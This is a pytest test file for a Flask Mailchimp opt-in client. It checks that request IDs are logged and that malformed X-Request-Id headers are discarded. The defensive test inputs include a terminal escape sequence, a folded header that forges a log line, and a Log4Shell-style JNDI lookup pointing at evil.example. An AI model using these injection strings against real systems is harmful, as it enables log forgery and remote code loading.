"""Mailchimp's ids of requests get into the log, so that its support can be asked; nothing else does."""

from __future__ import annotations

import socket
import threading
from typing import Any

import pytest

from flask_mailchimp_optin.client import Client
from flask_mailchimp_optin.errors import MailchimpError
from tests.house import Host
from tests.wire import wire

KEY = "0123456789abcdef0123456789abcdef-us6"
ID = "a1efb240-f8b6-40b9-8b0e-8a5d9c0a3a64"


def told(caplog: pytest.LogCaptureFixture, text: str) -> list[dict[str, Any]]:
    return [vars(record) for record in caplog.records if record.getMessage() == text]


@pytest.mark.parametrize(
    ("status", "text"),
    [
        (503, "Mailchimp is not asked for a while"),
        (429, "Mailchimp is not asked for a while"),
        (401, "the connection stops until somebody acts"),
        (405, "Mailchimp refused a request"),
    ],
)
def test_failures_and_pauses_name_the_request(
    connected: Host, caplog: pytest.LogCaptureFixture, status: int, text: str
) -> None:
    connected.add("ada@example.com", wants_news=True)
    connected.sandbox.fail_next(status, times=1)
    connected.work()
    (line,) = told(caplog, text)
    assert line["status"] == status
    assert len(line["request_id"]) == 36


def _error(header: bytes, head: bytes = b"503 Busy", body: bytes = b"{}") -> MailchimpError:
    def script(connection: socket.socket, _request: bytes, _over: threading.Event) -> str:
        answer = b"HTTP/1.1 %s\r\nContent-Length: %d\r\n%s\r\n%s"
        connection.sendall(answer % (head, max(len(body), 2), header, body))
        return "close"

    with (
        wire(script) as server,
        Client(KEY, api_url=server.url, timeout_s=5.0) as client,
        pytest.raises(MailchimpError) as caught,
    ):
        client.account()
    return caught.value


@pytest.mark.parametrize(
    ("head", "body"),
    [
        pytest.param(b"503 Busy", b"{}", id="failed"),
        pytest.param(b"302 Found", b"{}", id="redirect"),
        pytest.param(b"200 OK", b"", id="cut-off"),
    ],
)
def test_an_error_keeps_the_id_of_its_request(head: bytes, body: bytes) -> None:
    assert _error(b"X-Request-Id: %s\r\n" % ID.encode(), head, body).request_id == ID


@pytest.mark.parametrize(
    "value",
    [
        pytest.param(b"", id="none"),
        pytest.param(b"X-Request-Id: \r\n", id="empty"),
        pytest.param(b"X-Request-Id: " + b"a" * 60_000 + b"\r\n", id="long"),
        pytest.param(b"X-Request-Id: %s\x1b[2J\r\n" % ID[:20].encode(), id="terminal"),
        pytest.param(b"X-Request-Id: %s\x85x\r\n" % ID[:20].encode(), id="line-end"),
        pytest.param(b"X-Request-Id: aaaaaaaa\r\n forged line\r\n", id="folded"),
        pytest.param(b"X-Request-Id: ada@example.com\r\n", id="address"),
        pytest.param(b"X-Request-Id: %s\r\n" % KEY.encode(), id="key"),
        pytest.param(b"X-Request-Id: %s\r\n" % (b"0123456789abcdef" * 4), id="secret"),
        pytest.param(b"X-Request-Id: \xd9\xa1\xd9\xa1\xd9\xa1\xd9\xa1\xd9\xa1\r\n", id="digits"),
        pytest.param(b"X-Request-Id: ${jndi:ldap://evil.example}\r\n", id="lookup"),
    ],
)
def test_what_cannot_be_an_id_is_dropped(value: bytes) -> None:
    assert _error(value).request_id == ""
